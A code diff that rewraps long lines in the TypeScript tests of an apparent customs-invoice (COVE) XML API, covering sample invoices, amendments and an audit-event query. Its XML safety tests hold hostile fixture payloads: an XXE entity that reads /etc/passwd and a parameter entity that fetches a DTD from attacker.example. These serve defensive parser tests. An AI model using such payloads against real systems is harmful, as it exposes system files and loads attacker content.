@@ -95,23 +95,31 @@ function coveXml(opts: { extra?: string; quantity?: string } = {}) {
   <v:emisor>
     <v:identificacion>12-3456789</v:identificacion>
     <v:nombre>Acme Tools &amp; Sons Inc.</v:nombre>
-    <v:domicilio><v:calle>Main St</v:calle><v:numeroExterior>1200</v:numeroExterior><v:numeroInterior></v:numeroInterior>
-      <v:localidad>Laredo</v:localidad><v:entidadFederativa>TX</v:entidadFederativa><v:codigoPostal>78040</v:codigoPostal><v:pais>US</v:pais></v:domicilio>
+    <v:domicilio><v:calle>Main St</v:calle><v:numeroExterior>1200</v:numeroExterior>\
+<v:numeroInterior></v:numeroInterior>
+      <v:localidad>Laredo</v:localidad><v:entidadFederativa>TX</v:entidadFederativa>\
+<v:codigoPostal>78040</v:codigoPostal><v:pais>US</v:pais></v:domicilio>
   </v:emisor>
   <v:destinatario>
     <v:identificacion>${trader.rfc.toLowerCase()}</v:identificacion>
     <v:nombre>Comercializadora ${trader.rfc} S.A. de C.V.</v:nombre>
-    <v:domicilio><v:calle>${a.street}</v:calle><v:numeroExterior>${a.exteriorNumber}</v:numeroExterior><v:colonia>${a.neighbourhood}</v:colonia>
-      <v:municipio>${a.municipality}</v:municipio><v:entidadFederativa>${a.state}</v:entidadFederativa><v:codigoPostal>${a.postalCode}</v:codigoPostal><v:pais>MX</v:pais></v:domicilio>
+    <v:domicilio><v:calle>${a.street}</v:calle><v:numeroExterior>${a.exteriorNumber}</v:numeroExterior>\
+<v:colonia>${a.neighbourhood}</v:colonia>
+      <v:municipio>${a.municipality}</v:municipio><v:entidadFederativa>${a.state}</v:entidadFederativa>\
+<v:codigoPostal>${a.postalCode}</v:codigoPostal><v:pais>MX</v:pais></v:domicilio>
   </v:destinatario>
   <v:mercancias>
     <v:mercancia>
       <v:descripcionGenerica>Taladro inal&#225;mbrico</v:descripcionGenerica>
-      <v:cantidad>${opts.quantity ?? '10'}</v:cantidad><v:claveUnidadMedida>C62</v:claveUnidadMedida><v:tipoMoneda>USD</v:tipoMoneda>
-      <v:valorUnitario>150.05</v:valorUnitario><v:valorTotal>1500.50</v:valorTotal><v:valorDolares>1500.5</v:valorDolares>
+      <v:cantidad>${opts.quantity ?? '10'}</v:cantidad><v:claveUnidadMedida>C62</v:claveUnidadMedida>\
+<v:tipoMoneda>USD</v:tipoMoneda>
+      <v:valorUnitario>150.05</v:valorUnitario><v:valorTotal>1500.50</v:valorTotal>\
+<v:valorDolares>1500.5</v:valorDolares>
       <v:descripcionesEspecificas>
-        <v:descripcionEspecifica><v:marca>Acme</v:marca><v:modelo>D-20</v:modelo><v:numeroSerie>SN-001</v:numeroSerie></v:descripcionEspecifica>
-        <v:descripcionEspecifica><v:marca>Acme</v:marca><v:modelo>D-20</v:modelo><v:numeroSerie>SN-002</v:numeroSerie></v:descripcionEspecifica>
+        <v:descripcionEspecifica><v:marca>Acme</v:marca><v:modelo>D-20</v:modelo>\
+<v:numeroSerie>SN-001</v:numeroSerie></v:descripcionEspecifica>
+        <v:descripcionEspecifica><v:marca>Acme</v:marca><v:modelo>D-20</v:modelo>\
+<v:numeroSerie>SN-002</v:numeroSerie></v:descripcionEspecifica>
       </v:descripcionesEspecificas>
     </v:mercancia>
     <v:mercancia>
@@ -256,9 +264,11 @@ describe('XML safety', () => {
 <comprobante><numeroFacturaOriginal>&lol9;</numeroFacturaOriginal></comprobante>`;
   const XXE = `<?xml version="1.0" encoding="UTF-8"?>
 <!DOCTYPE comprobante [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
-<comprobante><tipoOperacion>IMPORTACION</tipoOperacion><numeroFacturaOriginal>&xxe;</numeroFacturaOriginal></comprobante>`;
+<comprobante><tipoOperacion>IMPORTACION</tipoOperacion>\
+<numeroFacturaOriginal>&xxe;</numeroFacturaOriginal></comprobante>`;
   const DOCTYPE_ONLY =
-    '<?xml version="1.0"?>\n<!DOCTYPE comprobante>\n<comprobante><tipoOperacion>IMPORTACION</tipoOperacion></comprobante>';
+    '<?xml version="1.0"?>\n<!DOCTYPE comprobante>\n' +
+    '<comprobante><tipoOperacion>IMPORTACION</tipoOperacion></comprobante>';
   const PARAMETER_ENTITY =
     '<!DOCTYPE c [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]><comprobante/>';
   const LOWERCASE = '<!doctype comprobante><comprobante/>';
@@ -496,7 +506,8 @@ describe('amendments', () => {
       `/api/v1/coves/${v2.number}/amendments`,
       coveXml({
         extra:
-          '<v:motivoAdenda>Factura corregida por el proveedor</v:motivoAdenda><v:observaciones>Sustituye a la anterior</v:observaciones>',
+          '<v:motivoAdenda>Factura corregida por el proveedor</v:motivoAdenda>' +
+          '<v:observaciones>Sustituye a la anterior</v:observaciones>',
       }),
     );
     assert.equal(third.status, 201, JSON.stringify(third.body));
@@ -521,7 +532,8 @@ describe('amendments', () => {
     assert.deepEqual(fromLatest.body.requested, fromLatest.body.latest);
 
     const events = await w.ctx.db.query(
-      "select type, object_id, signature_id from audit_events where type = 'cove.amended' and object_id = any($1::text[]) order by seq",
+      "select type, object_id, signature_id from audit_events where type = 'cove.amended' and object_id = " +
+        'any($1::text[]) order by seq',
       [[v2.number, v3.number]],
     );
     assert.deepEqual(
